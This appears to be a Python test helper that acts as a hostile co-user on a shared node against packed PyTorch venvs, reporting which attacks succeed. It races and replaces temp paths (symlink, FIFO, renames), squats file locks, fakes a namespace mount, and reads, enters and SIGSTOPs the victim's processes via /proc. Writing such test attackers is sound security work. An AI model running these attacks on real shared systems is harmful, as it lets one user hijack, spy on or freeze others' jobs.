"""What another user of a node can try against packed venvs; run by test_packed.py, prints what succeeds.

Arguments: the user who has the venv, the directory for temporary files, the job on the node, and the kind of attack.
"""

import contextlib
import ctypes
import fcntl
import os
import signal
import sys
from pathlib import Path

NAMESPACES = ("ns/user", "ns/mnt")
NEWNS, NEWUSER = 0x00020000, 0x10000000
libc = ctypes.CDLL(None)


def main(victim, temporary, job, kind):
    """Attack until killed."""
    top = Path(temporary, f"pytorch-{victim}")
    inner = top / job
    os.umask(0)
    if kind in ("directory", "rename"):
        inner.mkdir(parents=True)
    elif kind == "fifo":
        os.mkfifo(top)
    elif kind == "link":
        top.symlink_to(temporary)
    elif kind == "mount":
        offer_mount(os.environ["PYTORCH_PACKED"], os.environ["CONTAINERROOT"])
    print("ready", flush=True)
    locked = set()
    while True:
        for path in (top, inner):
            with contextlib.suppress(OSError):
                lock(path, int(victim), locked)
            if kind == "rename":
                with contextlib.suppress(OSError):
                    inner.rename(top / os.urandom(8).hex())
        for process in Path("/proc").glob("[0-9]*"):
            with contextlib.suppress(OSError):
                if process.stat().st_uid == int(victim):
                    enter(process)


def offer_mount(file, root):
    """Have a mount with the name that the venv's has."""
    sys.path.insert(0, f"{root}/runscripts")
    from pytorch_packed import mount_name

    name, user = mount_name(file, root), os.getuid()
    libc.unshare(NEWUSER | NEWNS)
    for table, text in (("setgroups", "deny"), ("uid_map", f"{user} {user} 1"), ("gid_map", f"{user} {user} 1")):
        Path("/proc/self", table).write_text(text)
    source = f"{file}@{name}-{Path('/proc/self/ns/mnt').stat().st_ino}"
    libc.mount(source.encode(), root.encode(), b"tmpfs", 0, None)
    Path(root, ".packed").touch()


def lock(path, victim, locked):
    """Lock a file or directory, and keep the lock."""
    found = path.lstat()
    if (found.st_dev, found.st_ino) not in locked:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
        locked.add((found.st_dev, found.st_ino))
        if os.fstat(descriptor).st_uid == victim:
            print("locked", path, flush=True)


def enter(process):
    """See what a process sees, enter its namespaces, or stop it."""
    for part in (*NAMESPACES, "environ", "root/", "cwd/"):
        with contextlib.suppress(OSError):
            descriptor = os.open(f"{process}/{part}", os.O_RDONLY)
            is_in = part in NAMESPACES and libc.setns(descriptor, 0) == 0
            print("entered" if is_in else "opened", part, "of", process, flush=True)
            os.close(descriptor)
    os.kill(int(process.name), signal.SIGSTOP)
    print("stopped", process, flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
